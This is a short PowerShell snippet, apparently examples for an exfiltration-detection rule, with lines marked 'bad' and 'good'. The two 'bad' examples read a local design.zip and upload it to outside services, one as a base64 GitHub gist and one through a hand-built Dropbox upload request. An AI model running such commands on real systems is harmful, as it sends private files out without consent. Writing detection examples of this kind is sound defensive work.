# bad: a gist by PowerShell
$text = [Convert]::ToBase64String([IO.File]::ReadAllBytes("C:\work\design.zip"))
$body = @{ files = @{ design = @{ content = $text } } } | ConvertTo-Json
Invoke-RestMethod -Uri "https://api.github.com/gists" -Method Post -Headers $headers -Body $body
# bad: a request that is built by hand
$request = [Net.WebRequest]::Create("https://content.dropboxapi.com/2/files/upload")
$bytes = [IO.File]::ReadAllBytes("C:\work\design.zip")
$stream = $request.GetRequestStream()
$stream.Write($bytes, 0, $bytes.Length)
# good: nearly: the host is asked
Invoke-RestMethod -Uri "https://api.github.com/gists" -Headers $headers
